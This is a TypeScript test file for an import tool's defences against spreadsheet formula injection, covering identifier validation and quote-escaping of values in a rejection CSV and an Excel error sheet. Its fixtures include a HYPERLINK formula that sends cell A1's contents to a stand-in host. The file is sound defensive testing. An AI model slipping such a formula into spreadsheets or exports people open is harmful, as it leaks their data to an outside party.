/**
 * Formula injection (issue 10, fault D): identifiers get a strict character set in the import's
 * validation (data-contract.md, "Identifiers"), and free text echoed into files people open in a
 * spreadsheet (rejection report, Importfehler) gets a leading ' before =, +, -, @, tab and CR.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, describe, expect, it } from 'vitest';
import { FILE_SPECS } from '../../src/import/file-specs.ts';
import { writeRejectionReport } from '../../src/import/rejection-report.ts';
import { checkValue } from '../../src/import/validate.ts';
import { spreadsheetText } from '../../src/spreadsheet-text.ts';
import { REJECTION_COLUMNS, rejectionSheetRow } from '../../reports/run-sections.ts';
import { openWorkbook } from '../../reports/workbook.ts';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'yearend-injection-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

const FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"klick")', '+SUM(1,2)', '@SUM(A1)', '-2+3', '=1+1'];
const identifier = { kind: 'text', identifier: true } as const;

describe('identifiers', () => {
  it('accepts the ids the generator and the scenarios write', () => {
    for (const id of ['R123-05', 'P7-01', 'T18A-03-D1', 'L6-C1', 'Y00000001P1', 'E-4711', 'a/b.c_d', '1', 'x'.repeat(35)]) {
      expect(checkValue(identifier, id), id).toBeNull();
    }
  });

  it('rejects formulas, other characters, a leading - . / and more than 35 characters', () => {
    for (const id of [...FORMULAS, '-1', '.x', '/x', 'a b', 'a,b', 'a;b', "a'b", 'ä1', 'x'.repeat(36), 'a\tb']) {
      expect(checkValue(identifier, id), id).toMatch(/INVALID_IDENTIFIER/);
    }
  });

  it('every id column of the contract is an identifier; the reason never quotes the value', () => {
    const idColumns = FILE_SPECS.flatMap((s) => s.columns.filter((c) => /_id$/.test(c.name)).map((c) => [s.file, c] as const));
    for (const [file, column] of idColumns) {
      if (column.name === 'member_id' || column.name === 'employer_id') continue;
      expect(column.type, `${file} ${column.name}`).toEqual(identifier);
    }
    expect(checkValue(identifier, '=HYPERLINK(1)')).not.toContain('HYPERLINK');
  });
});

describe('free text for a spreadsheet', () => {
  it("gets a leading ' before =, +, -, @, tab and CR; other text stays as it is", () => {
    for (const t of [...FORMULAS, '\tx', '\rx']) expect(spreadsheetText(t)).toBe(`'${t}`);
    for (const t of ['abc', '120.00', 'a=b', '', "'=x"]) expect(spreadsheetText(t)).toBe(t);
    expect(spreadsheetText(null)).toBeNull();
  });

  it('the rejection report neutralises the value and the reason', () => {
    const file = writeRejectionReport(tmp, 1, [
      { file: 'reimbursement_claims.csv', line: 2, column: 'claim_id', value: '=HYPERLINK("x")', reason: 'INVALID_IDENTIFIER' },
      { file: 'pay_months.csv', line: 3, column: 'pay_regular', value: '-120.00', reason: 'amount must not be negative' },
    ]);
    const lines = fs.readFileSync(file, 'utf8').trim().split('\n');
    expect(lines[1]).toBe(`pay_months.csv,3,pay_regular,'-120.00,amount must not be negative`);
    expect(lines[2]).toBe(`reimbursement_claims.csv,2,claim_id,"'=HYPERLINK(""x"")",INVALID_IDENTIFIER`);
  });

  it('Importfehler writes such a value as a text cell with the leading quote', async () => {
    const target = path.join(tmp, 'book.xlsx');
    const book = await openWorkbook(target, { preliminary: false, title: 'Test' });
    const rows = [
      { file_name: 'outpatient_treatments.csv', batch_id: 1, line: 2, column_name: 'claim_id', value: '+SUM(1,2)', reason: 'x' },
      { file_name: 'outpatient_treatments.csv', batch_id: 1, line: 3, column_name: 'claim_id', value: '@SUM(A1)', reason: 'x' },
    ].map(rejectionSheetRow);
    book.planParts('Importfehler', rows.length);
    await book.addTable('Importfehler', REJECTION_COLUMNS, rows, { expectedRows: rows.length });
    const written = await book.close();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(written);
    const ws = wb.getWorksheet('Importfehler')!;
    const values = [2, 3].map((r) => ws.getRow(r).getCell(5));
    expect(values.map((c) => c.value)).toEqual(["'+SUM(1,2)", "'@SUM(A1)"]);
    for (const c of values) {
      expect(c.type).toBe(ExcelJS.ValueType.String);
      expect(c.formula).toBeFalsy();
    }
  });
});
